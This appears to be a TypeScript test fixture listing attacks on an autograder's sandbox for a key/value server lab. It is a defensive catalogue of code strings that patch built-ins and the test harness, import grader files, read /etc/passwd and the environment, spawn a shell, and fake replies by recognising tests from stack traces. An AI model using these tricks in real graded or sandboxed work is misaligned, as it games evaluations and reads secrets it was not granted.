/**
 * Attacks on a realm: submissions that want points without doing the work.
 *
 * Each is the students' skeleton, which passes no test, with code at the end of `client.ts`, or
 * of `server.ts` if the code needs its names.
 *
 * @module
 */

/** One attack. */
export interface Attack {
  /** The attempt, as the end of a sentence: "code that tries to …". */
  tries: string;
  code: string;
  file?: "server.ts";
  /** The words of grading for the attack, in a problem or in the report of the test. */
  says?: RegExp;
}

const NOT_ALLOWED = /is not allowed/;

const attack = (tries: string, code: string, says?: RegExp): Attack => {
  return { tries, code, ...says && { says } };
};
const replaced = (place: string, value = "() => true"): Attack => {
  return attack(`replace ${place}`, `(globalThis as any).${place} = ${value};`);
};
const imports = (specifier: string, rest = ""): Attack => {
  const code = `import * as stolen from "${specifier}"${rest};\nconsole.log(stolen);`;
  return attack(`import ${specifier}`, code, NOT_ALLOWED);
};
const usesDeno = (tries: string, code: string): Attack => {
  return attack(tries, `const deno = (globalThis as any).Deno;\n${code}`);
};
const inServer = (tries: string, code: string): Attack => ({ tries, code, file: "server.ts" });

const REPLACEMENTS = [
  replaced("Array.prototype.push"),
  replaced("Promise.prototype.then"),
  replaced("Map.prototype.get"),
  replaced("JSON.parse"),
  replaced("structuredClone"),
  replaced("Math.random", "() => 0"),
  replaced("setTimeout", "(f: any) => f()"),
  replaced("console.log"),
  replaced("Object.prototype.toString"),
  replaced("Error.prepareStackTrace", "(_: any, frames: any) => frames"),
  replaced("Symbol.iterator", "undefined"),
  attack(
    "replace Deno.test",
    '(Deno as any).test = (name: string) => console.log(name, "ok");',
  ),
  attack(
    "define a property of Object.prototype",
    'Object.defineProperty(Object.prototype, "passed", { value: true });',
  ),
  attack(
    "patch the ends of the network",
    'import { ClientEnd } from "./labrpc.ts";\nClientEnd.prototype.call = (async () => ({})) as any;',
  ),
  attack(
    "patch the network",
    'import { Network } from "./labrpc.ts";\nNetwork.prototype.reliable = () => {};',
  ),
  attack(
    "patch the config",
    'setTimeout(async () => ((await import("./config.ts")) as any).Config.prototype.check = () => {});',
  ),
  attack(
    "replace the species of arrays",
    "Object.defineProperty(Array, Symbol.species, { get: () => Set });",
  ),
  attack(
    "redefine Error.prepareStackTrace",
    "Object.defineProperty(Error, 'prepareStackTrace', { value: (_: any, f: any) => f });",
  ),
  attack("remove the limit of stack traces", "Error.stackTraceLimit = Infinity;"),
  attack(
    "replace the prototype of the global object",
    "Object.setPrototypeOf(globalThis, { passed: true });",
  ),
  attack(
    "observe the garbage collector",
    "new FinalizationRegistry(() => {}).register({}, new WeakRef({}));\n" +
      "FinalizationRegistry.prototype.register = () => {};",
  ),
  attack(
    "replace Function.prototype.call",
    "Function.prototype.call = () => ({}) as any;",
  ),
];

const IMPORTS = [
  imports("./testing/invariants.ts"),
  imports("./test_test.ts"),
  imports("./grader/result/rubric.ts"),
  imports("./Server.ts"),
  imports("./соlution.ts"),
  imports("../server.ts"),
  imports("../.grades/salt.json", ' with { type: "json" }'),
  imports("https://example.com/solution.ts"),
  imports("npm:left-pad"),
  imports("node:fs"),
  imports("node:process"),
  imports("data:text/javascript,export default 1"),
  imports("file:///etc/passwd", ' with { type: "json" }'),
  ...[
    'const where = "./testing/" + "invariants.ts";\nawait import(where);',
    'await import(/* a */ "node:" + "process");',
    'await import(\n  // a\n  "node:" + "process",\n);',
    "await import(`node:process`);",
    'await import/**/("./testing/" + "invariants.ts");',
  ].map((code, i) => attack(`import a computed name (${i + 1})`, code, NOT_ALLOWED)),
  attack(
    "import from inside eval",
    `const loaded = await (0, eval)('import("./testing/invariants.ts")');\n` +
      "(loaded as any).valueViolation = () => undefined;",
  ),
  attack(
    "read the seeds from node's arguments, inside eval",
    "const found = await (0, eval)('import(\"node:process\")');\n" +
      'throw new Error(found.argv.join(" "));',
  ),
];

const RUNTIME = [
  attack(
    "call the test runner's own functions",
    'const all = new Function("return globalThis")();\nall.Deno[all.Deno.internal].core.ops.op_test_event_step_result_ok(1, 1);',
  ),
  attack(
    "register the tests before the lab does",
    '(Deno as any).test("TestBasic: one client", {}, async () => {});',
  ),
  attack(
    "make a function through a constructor",
    '(async () => {}).constructor("return 1")();',
  ),
  usesDeno("kill the process", "deno.kill(deno.pid);"),
  usesDeno("read the password file", 'console.log(deno.readTextFileSync("/etc/passwd"));'),
  usesDeno("read the environment", "console.log(deno.env.toObject());"),
  usesDeno("read the seeds", 'if (deno.args.length === 0) throw new Error("no seeds");'),
  usesDeno("read the main module", 'if (!deno.mainModule) throw new Error("no module");'),
  usesDeno("write a file", 'deno.writeTextFileSync("labrpc.ts", "");'),
  usesDeno("open a socket", "deno.listen({ port: 0 });"),
  usesDeno("start a process", 'new deno.Command("sh").outputSync();'),
  attack("reach the network", 'await fetch("http://127.0.0.1:18080/");'),
  attack(
    "start a worker",
    'new Worker("data:text/javascript,for(;;);", { type: "module" });',
  ),
  attack("leave a rejection unhandled", 'Promise.reject(new Error("left"));'),
  attack("throw at the top", 'throw new Error("thrown");', /thrown/),
  attack(
    "wait at the top forever",
    "await new Promise(() => {});",
    /did not finish loading/,
  ),
  attack(
    "report an error and hide it from others",
    'addEventListener("error", (event) => event.preventDefault());\n' +
      'reportError(new Error("reported"));',
  ),
  attack("announce the end of the process", 'dispatchEvent(new Event("unload"));'),
];

const SERVERS = [
  inServer(
    "be a thenable",
    '(KVServer.prototype as any).then = (resolve: any) => resolve({ value: "" });\n' +
      "throw { then(resolve: any) { resolve(1); } };",
  ),
  inServer(
    "hide code in a getter of a reply",
    'KVServer.prototype.get = () => ({ get value() { return ""; } });',
  ),
  inServer(
    "reply with a proxy",
    'KVServer.prototype.get = () => new Proxy({ value: "" }, { get: () => "", has: () => true });',
  ),
  inServer(
    "reply with a thenable",
    'KVServer.prototype.get = () => ({ value: "", then(resolve: any) { resolve(this); } });',
  ),
  inServer(
    "recognize the test by its stack, and reply from a table",
    "KVServer.prototype.append = () => {\n" +
      '  const test = /Test\\w+/.exec(new Error().stack ?? "")?.[0] ?? "";\n' +
      '  return { value: ({ TestBasic: "x 0 0 y" } as Record<string, string>)[test] ?? "" };\n};',
  ),
  inServer(
    "reach another server through an object that it received",
    "const seen: any[] = [];\nKVServer.prototype.get = function (args) {\n" +
      '  seen.push(this, args);\n  return seen[0].data ?? { value: "" };\n};',
  ),
  attack("keep shared data in a global", "(globalThis as any).shared = new Map();"),
  attack(
    "keep shared data in a function of the runtime",
    "(structuredClone as any).shared = new Map();",
  ),
  attack("keep shared data in a class of the runtime", "(URL as any).shared = new Map();"),
  inServer("keep shared data in a class of zod", "(z.ZodString as any).shared = new Map();"),
  inServer(
    "keep shared data in the registry of zod",
    '(z.globalRegistry as any)._map = new Map();\nthrow new Error("replaced");',
  ),
  inServer(
    "make the schemas accept everything",
    "(PutAppendArgs as any).safeParse = (data: unknown) => ({ success: true, data });\n" +
      '(GetReply as any).safeParse = () => ({ success: true, data: { value: "" } });',
  ),
  inServer(
    "pass objects by reference through the rpc table",
    "(KVServer.rpc.get as any).reply = z.any().transform(() => ({ value: () => 1 }));\n" +
      'KVServer.prototype.get = () => ({ value: "" });',
  ),
];

/** All attacks on realms. */
export const REALM_ATTACKS: readonly Attack[] = [
  ...REPLACEMENTS,
  ...IMPORTS,
  ...RUNTIME,
  ...SERVERS,
];
